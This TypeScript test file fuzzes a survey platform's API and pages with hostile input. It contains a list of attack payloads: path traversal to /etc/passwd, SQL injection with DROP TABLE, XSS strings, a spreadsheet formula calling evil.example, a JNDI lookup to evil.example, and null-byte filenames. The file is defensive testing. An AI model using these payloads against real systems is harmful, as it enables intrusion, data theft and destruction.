import { request as httpRequest } from 'node:http';
import { Queue } from 'bullmq';
import fc from 'fast-check';
import { DataSource } from 'typeorm';
import { eventually, HttpClient, openStaffSurvey, RunningPlatform, startPlatform, tableDigests, unexpectedErrors } from '@app/testing';
import { Role } from '@app/auth';
import { QueueName } from '@app/core';
import { PAGE_ROUTES, Route } from './page-routes';

/**
 * Hostile input against every route: the OpenAPI document's and the pages'. Fuzzed path
 * parameters, query strings, JSON bodies (shaped by the route's schema, and shapeless) and
 * uploaded files must give a 4xx with a clear, coded message, never a 5xx; a refused write
 * stores nothing; bodies and uploads are capped; traversal and SQL injection are inert; and
 * nothing a caller sends comes back as markup.
 */

/** Strings that have broken web applications: traversal, SQL, markup, formulas, template and encoding tricks. */
const HOSTILE = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  "' OR '1'='1",
  "'; DROP TABLE auth.\"user\"; --",
  '1); SELECT pg_sleep(3); --',
  '" OR ""="',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '\u0000',
  '\u202e\u0000\ufeff',
  'A'.repeat(10_000),
  '00000000-0000-0000-0000-000000000000',
  '-1',
  '1e309',
  'NaN',
  '__proto__',
  'constructor',
];
/** The markup a page must never echo back unescaped. */
const MARKUP_PROBES = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'];

const hostileText = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 40 }));
const anyJson = fc.oneof(hostileText, fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.jsonValue({ maxDepth: 2 }));

interface Schema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  properties?: Record<string, Schema>;
  items?: Schema;
}

interface Operation {
  parameters?: { in: string; name: string }[];
  requestBody?: { content: Record<string, { schema: Schema }> };
  'x-access'?: string[];
}

interface ApiRoute extends Route {
  operation: Operation;
}

interface FuzzedRequest {
  path: string;
  query: [string, string][];
  body?: { json: unknown } | { raw: string; contentType: string } | { form: { field: string; name: string; bytes: Uint8Array; extra: [string, string][] } };
}

describe('hostile input against every route', () => {
  let platform: RunningPlatform;
  let owner: DataSource;
  let queues: Queue[] = [];
  let document: { paths: Record<string, Record<string, Operation>>; components: { schemas: Record<string, Schema> } };
  const clients = new Map<Role, HttpClient>();
  let respondent: HttpClient;
  /** Real identifiers per path parameter, so fuzzing reaches past the "not found" checks. */
  const known: Record<string, string[]> = {};

  beforeAll(async () => {
    // One trusted proxy hop: tests that must not share the fuzzing's rate limits come from their own address.
    platform = await startPlatform({ TRUST_PROXY_HOPS: '1' });
    owner = await platform.db.owner();
    queues = Object.values(QueueName).map((name) => new Queue(name, { connection: { url: platform.db.config.REDIS_URL }, prefix: platform.db.config.QUEUE_PREFIX }));
    const survey = await openStaffSurvey(platform, { scale: 0.05, seed: 31 });
    for (const role of [Role.Admin, Role.Commission, Role.Hr, Role.Judge, Role.Jury]) {
      const client = new HttpClient(platform.baseUrl);
      await client.signIn(role, survey.password);
      clients.set(role, client);
    }
    // The database must be still while fuzzing: wait for the launch's invitations to go out.
    await eventually('invitations sent', async () => {
      const [{ waiting }] = await owner.query(`SELECT count(*)::int AS waiting FROM campaigns.participant WHERE campaign_id = $1 AND invitations_sent = 0`, [survey.campaignId]);
      return waiting === 0;
    });
    respondent = new HttpClient(platform.baseUrl);
    expect((await respondent.post('/api/respond/session', { token: survey.tokens[0] })).status).toBe(200);

    const instruments = (await clients.get(Role.Commission)!.get('/api/instruments')).body as { id: string; kind: string; latestVersion: { id: string } }[];
    const draft = await clients.get(Role.Commission)!.post('/api/campaigns', {
      kind: 'judges-survey',
      title: { kk: 'Жоба', ru: 'Черновик', en: 'Draft' },
      instrumentVersionId: instruments.find((i) => i.kind === 'judges-survey')!.latestVersion.id,
      deadline: new Date(Date.now() + 7 * 24 * 3600_000).toISOString(),
    });
    expect(draft.status).toBe(201);
    const throwaway = await clients.get(Role.Admin)!.post('/api/admin/users', { login: 'fuzz.target', displayName: 'Fuzz', role: 'judge', password: 'fuzz-target-password', locale: 'kk' });
    expect(throwaway.status).toBe(201);
    const proceeding = await clients.get(Role.Jury)!.post('/api/discipline/proceedings', {
      judgeId: '9b1f0c1e-4a55-4d8e-9a57-3f1f6f1b2c3d',
      reference: 'SJ-2026-001',
      source: (await clients.get(Role.Jury)!.get('/api/discipline/reference')).body.sources?.[0] ?? 'commission',
    });
    Object.assign(known, {
      id: [survey.campaignId, draft.body.id, throwaway.body.id, instruments[0].id, ...(proceeding.status === 201 ? [proceeding.body.id] : [])],
      kind: ['staff', 'judges', 'courts'],
      version: ['1', '2'],
      release: ['1'],
      name: ['dashboard.js', 'survey-core.js', 'respond.css'],
    });
    document = (await new HttpClient(platform.baseUrl).get('/api/docs-json')).body;
  });

  afterAll(async () => {
    await Promise.all(queues.map((queue) => queue.close()));
    await platform?.stop();
  });

  function apiRoutes(): ApiRoute[] {
    return Object.entries(document.paths).flatMap(([path, operations]) =>
      Object.entries(operations).map(([method, operation]) => ({ method: method.toUpperCase(), path, access: operation['x-access'] ?? [], operation })),
    );
  }

  function resolve(schema: Schema | undefined): Schema {
    if (!schema?.$ref) return schema ?? {};
    return document.components.schemas[schema.$ref.split('/').pop()!] ?? {};
  }

  /** A value that fits the schema's declared type, or deliberately does not. */
  function valueFor(raw: Schema | undefined, depth = 0): fc.Arbitrary<unknown> {
    const schema = resolve(raw);
    const fitting: fc.Arbitrary<unknown>[] = [];
    if (schema.enum) fitting.push(fc.constantFrom(...schema.enum));
    if (schema.format === 'uuid') fitting.push(fc.oneof(fc.uuid(), fc.constantFrom(...known.id)));
    if (schema.format === 'date-time') fitting.push(fc.date({ noInvalidDate: true }).map((d) => d.toISOString()));
    if (schema.format === 'date') fitting.push(fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)));
    if (schema.type === 'number' || schema.type === 'integer') fitting.push(fc.integer({ min: -5, max: 1_000 }));
    if (schema.type === 'boolean') fitting.push(fc.boolean());
    if (schema.type === 'array') fitting.push(fc.array(valueFor(schema.items, depth + 1), { maxLength: 4 }));
    if (depth < 2 && (schema.properties || schema.type === 'object')) fitting.push(bodyFor(schema, depth + 1));
    return fitting.length === 0 ? anyJson : fc.oneof({ arbitrary: fc.oneof(...fitting), weight: 3 }, { arbitrary: anyJson, weight: 1 });
  }

  /** An object with the schema's fields (each present or not, fitting or not) and sometimes fields nobody declared. */
  function bodyFor(schema: Schema, depth = 0): fc.Arbitrary<Record<string, unknown>> {
    const declared = Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, property]) => [name, valueFor(property, depth)]));
    const guessed = ['token', 'submissionId', 'answers', 'reviews', 'action', 'text', 'locale', 'title', 'kind', 'instrumentVersionId', 'definition'];
    return fc
      .tuple(fc.record(declared, { requiredKeys: [] }), fc.dictionary(fc.oneof(fc.constantFrom(...guessed), fc.string({ maxLength: 12 })), anyJson, { maxKeys: 3 }))
      .map(([fields, extra]) => ({ ...extra, ...fields }));
  }

  function pathValue(name: string): fc.Arbitrary<string> {
    return fc.oneof(fc.constantFrom(...(known[name] ?? ['x'])), fc.uuid(), fc.constantFrom(...HOSTILE), fc.string({ minLength: 1, maxLength: 40 }));
  }

  function requestFor(route: ApiRoute): fc.Arbitrary<FuzzedRequest> {
    const names = [...route.path.matchAll(/\{([^}]+)\}/g)].map((m) => m[1]);
    const queryNames = (route.operation.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name);
    const query = fc.array(fc.tuple(fc.oneof(fc.constantFrom('lang', 'limit', 'offset', ...queryNames), fc.string({ maxLength: 10 })), hostileText.map(String)), { maxLength: 4 });
    const content = route.operation.requestBody?.content ?? {};
    const body: fc.Arbitrary<FuzzedRequest['body']> = content['multipart/form-data']
      ? fc.record({
          field: fc.constantFrom('file', 'file', 'upload', ''),
          name: fc.oneof(fc.constantFrom('register.xlsx', 'form.xlsx', '../../../etc/passwd', 'a.csv\u0000.sh', '<img src=x onerror=alert(1)>.csv'), fc.string({ maxLength: 30 })),
          bytes: fc.oneof(fc.uint8Array({ maxLength: 2048 }), fc.constantFrom(...HOSTILE).map((s) => new TextEncoder().encode(`surname,name\n${s},${s}\n`))),
          extra: fc.array(fc.tuple(fc.string({ maxLength: 8 }), hostileText.map(String)), { maxLength: 7 }),
        }).map((form) => ({ form }))
      : fc.oneof(
          { arbitrary: bodyFor(resolve(content['application/json']?.schema)).map((json) => ({ json })), weight: 4 },
          { arbitrary: anyJson.map((json) => ({ json })), weight: 1 },
          {
            arbitrary: fc.record({ raw: fc.oneof(fc.constantFrom('{', '{"a":', '[1,', 'null', '"\\ud800"', '{"__proto__":{"admin":true}}'), fc.string()), contentType: fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded') }),
            weight: 1,
          },
        );
    return fc.record({ values: fc.tuple(...names.map(pathValue)), query, body: route.method === 'GET' ? fc.constant(undefined) : body }).map(({ values, query: pairs, body: sent }) => ({
      path: names.reduce((path, name, i) => path.replace(`{${name}}`, encodeURIComponent(values[i])), route.path),
      query: pairs,
      body: sent,
    }));
  }

  function clientFor(route: Route): HttpClient {
    if (route.path.startsWith('/api/respond/')) return respondent;
    const role = route.access.find((a) => a !== 'public') as Role | undefined;
    return role ? clients.get(role)! : new HttpClient(platform.baseUrl);
  }

  async function send(client: HttpClient, method: string, sent: FuzzedRequest) {
    const search = new URLSearchParams(sent.query).toString();
    const url = `${sent.path}${search ? `?${search}` : ''}`;
    const body = sent.body;
    if (!body) return client.request(method, url);
    if ('json' in body) return client.request(method, url, JSON.stringify(body.json) ?? 'null');
    if ('raw' in body) return client.request(method, url, body.raw, { 'content-type': body.contentType });
    const form = new FormData();
    for (const [name, value] of body.form.extra) form.append(name, value);
    form.append(body.form.field, new Blob([new Uint8Array(body.form.bytes)]), body.form.name);
    return client.request(method, url, form);
  }

  /** Every row of every table, as one string: a refused request must leave it unchanged. */
  async function databaseDigest(): Promise<string> {
    return JSON.stringify(await tableDigests(owner));
  }

  /**
   * Waits until no job is running or waiting (a close queues finalising, then aggregating) and the
   * tables stay the same for a second; returns the digest they settled on.
   */
  async function quietPlatform(): Promise<string> {
    let last = await databaseDigest();
    await eventually('a quiet platform', async () => {
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      const busy = await Promise.all(queues.map(async (queue) => Object.values(await queue.getJobCounts('active', 'waiting', 'prioritized')).reduce((a, b) => a + b, 0)));
      const now = await databaseDigest();
      const quiet = now === last && busy.every((count) => count === 0);
      last = now;
      return quiet;
    });
    return last;
  }

  function expectClearRefusal(route: Route, sent: unknown, response: { status: number; body: any }) {
    const where = { route: `${route.method} ${route.path}`, sent, status: response.status, body: response.body };
    if (response.status >= 500) throw new Error(`server error: ${JSON.stringify(where).slice(0, 2000)}`);
    if (response.status < 400) return;
    const { code, message, problems } = response.body ?? {};
    if (typeof code !== 'string' || !/^[a-z-]+\.[a-z0-9-]+$/.test(code) || typeof message !== 'string' || message.length === 0) {
      throw new Error(`refusal without a coded message: ${JSON.stringify(where).slice(0, 2000)}`);
    }
    if (code === 'core.validation-failed' && !(problems.length > 0 && problems.every((p: { field?: unknown; reason?: string }) => typeof p.field === 'string' && p.reason))) {
      throw new Error(`validation refusal naming no field: ${JSON.stringify(where).slice(0, 2000)}`);
    }
  }

  it('finds the routes the access matrix knows, and the pages', () => {
    const routes = apiRoutes();
    expect(routes.length).toBeGreaterThanOrEqual(50);
    expect(PAGE_ROUTES.map((r) => r.path)).toEqual(expect.arrayContaining(['/login', '/dashboard', '/respond']));
  });

  it('refuses fuzzed parameters, queries, bodies and uploads on every API route with a clear 4xx, and stores nothing it refuses', async () => {
    const tried: Record<string, Record<number, number>> = {};
    for (const route of apiRoutes().filter((r) => !r.path.endsWith('/logout'))) {
      const client = clientFor(route);
      const before = await databaseDigest();
      // The tables as the last request left them: each write is checked against it, and an
      // accepted one moves it on once its queued work is done.
      let current = before;
      let anyAccepted = false;
      await fc.assert(
        fc.asyncProperty(requestFor(route), async (sent) => {
          const response = await send(client, route.method, sent);
          (tried[`${route.method} ${route.path}`] ??= {})[response.status] = (tried[`${route.method} ${route.path}`]?.[response.status] ?? 0) + 1;
          expectClearRefusal(route, sent, response);
          if (response.status < 400) {
            anyAccepted = true;
            // An accepted write may have queued work (a launch sends invitations): let it finish first.
            if (route.method !== 'GET') current = await quietPlatform();
          } else if (route.method !== 'GET') {
            const after = await databaseDigest();
            if (after !== current) throw new Error(`a refused ${route.method} ${route.path} (${response.status}) changed the database`);
          }
        }),
        { numRuns: route.method === 'GET' ? 10 : 20, endOnFailure: true },
      );
      // A GET stores nothing, refused or not; the audited downloads aside, which here were never reached.
      if (route.method === 'GET' && !anyAccepted) expect({ route: route.path, digest: await databaseDigest() }).toEqual({ route: route.path, digest: before });
    }
    // Fuzzing that only ever hit the guard would prove nothing about validation.
    const statuses = Object.values(tried).flatMap((byStatus) => Object.keys(byStatus).map(Number));
    expect(statuses).toEqual(expect.arrayContaining([400, 404]));
    expect(unexpectedErrors(platform.api)).toEqual([]);
  });

  it('fuzzes the pages: never a 5xx, never the caller’s markup echoed, and the sign-in page only sends people onwards within the site', async () => {
    for (const route of PAGE_ROUTES) {
      // Each page as a role it admits (HR where it may), so the page itself is fuzzed, not only its refusal.
      const client = route.access.includes('public') ? new HttpClient(platform.baseUrl) : clients.get(route.access.includes(Role.Hr) ? Role.Hr : (route.access[0] as Role))!;
      const names = [...route.path.matchAll(/\{([^}]+)\}/g)].map((m) => m[1]);
      await fc.assert(
        fc.asyncProperty(fc.tuple(...names.map(pathValue)), fc.array(fc.tuple(fc.constantFrom('lang', 'next', 'v', 'x'), hostileText.map(String)), { maxLength: 3 }), async (values, query) => {
          const path = names.reduce((p, name, i) => p.replace(`{${name}}`, encodeURIComponent(values[i])), route.path);
          const search = new URLSearchParams(query).toString();
          const response = await client.get(`${path}${search ? `?${search}` : ''}`);
          expect({ path, status: response.status < 500 }).toEqual({ path, status: true });
          for (const probe of MARKUP_PROBES) expect(response.text).not.toContain(probe);
          const next = /data-next="([^"]*)"/.exec(response.text)?.[1];
          if (next !== undefined) expect(next).toMatch(/^\/(?![/\\])/);
        }),
        { numRuns: 25, endOnFailure: true },
      );
    }
    expect(unexpectedErrors(platform.api)).toEqual([]);
  });

  it('caps bodies and uploads with a clear 413, storing nothing', async () => {
    const digest = await databaseDigest();
    const admin = clients.get(Role.Admin)!;
    const hugeJson = await admin.request('POST', '/api/admin/users', JSON.stringify({ login: 'x', displayName: 'y'.repeat(1024 * 1024 + 1) }));
    expect([hugeJson.status, hugeJson.body.code]).toEqual([413, 'core.payload-too-large']);
    expect(hugeJson.body.message.length).toBeGreaterThan(0);

    const upload = (bytes: number) => {
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(bytes)]), 'staff.csv');
      return form;
    };
    const register = await admin.request('POST', '/api/registry/staff/import', upload(20 * 1024 * 1024 + 1));
    expect([register.status, register.body.code]).toEqual([413, 'core.payload-too-large']);
    const instrument = known.id[3];
    const xlsform = await clients.get(Role.Hr)!.request('POST', `/api/instruments/${instrument}/versions/import`, upload(2 * 1024 * 1024 + 1));
    expect([xlsform.status, xlsform.body.code]).toEqual([413, 'core.payload-too-large']);
    const twoFiles = upload(10);
    twoFiles.append('file', new Blob(['a']), 'second.csv');
    expect((await admin.request('POST', '/api/registry/staff/import', twoFiles)).status).toBeGreaterThanOrEqual(400);
    expect(await databaseDigest()).toBe(digest);
  });

  it('keeps traversal inert: no file outside the served assets is ever read', async () => {
    const raw = (path: string) =>
      new Promise<{ status: number; text: string }>((resolve, reject) => {
        const url = new URL(platform.baseUrl);
        // node's http client sends the path as written: no client-side normalising of `..`.
        const req = httpRequest({ host: url.hostname, port: url.port, path, method: 'GET' }, (res) => {
          let text = '';
          res.on('data', (chunk) => (text += chunk));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
        });
        req.on('error', reject);
        req.end();
      });
    const attempts = [
      '/respond/assets/../../../../../../etc/passwd',
      '/respond/assets/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/respond/assets/%2e%2e%2f%2e%2e%2fpackage.json',
      '/dashboard/assets/..%2fdashboard.controller.js',
      '/dashboard/assets/....//....//package.json',
      '/api/registry/..%2f..%2f..%2fetc%2fpasswd/template',
      '/api/docs/..%2f..%2f..%2fpackage.json',
    ];
    for (const path of attempts) {
      const response = await raw(path);
      expect({ path, status: response.status >= 400 && response.status < 500 }).toEqual({ path, status: true });
      expect(response.text).not.toMatch(/root:x:0:0|"devDependencies"|DashboardController/);
    }
  });

  it('keeps SQL injection inert: a quote is a character, not a command', async () => {
    const injected = new HttpClient(platform.baseUrl);
    const signIn = await injected.post('/api/auth/login', { login: "admin' --", password: "' OR '1'='1" }, { 'x-forwarded-for': '203.0.113.7' });
    expect(signIn.status).toBe(401);
    const hr = clients.get(Role.Hr)!;
    const all = await hr.get('/api/registry/staff?limit=1000');
    expect(all.status).toBe(200);
    expect(all.body.length ?? all.body.items?.length).toBeGreaterThan(0);
    const court = await hr.get(`/api/registry/staff?court=${encodeURIComponent("' OR '1'='1")}`);
    expect(court.status).toBe(200);
    expect(court.body.length ?? court.body.items?.length).toBe(0);
    const [{ users }] = await owner.query(`SELECT count(*)::int AS users FROM auth."user"`);
    expect(users).toBeGreaterThan(0);
  });
});
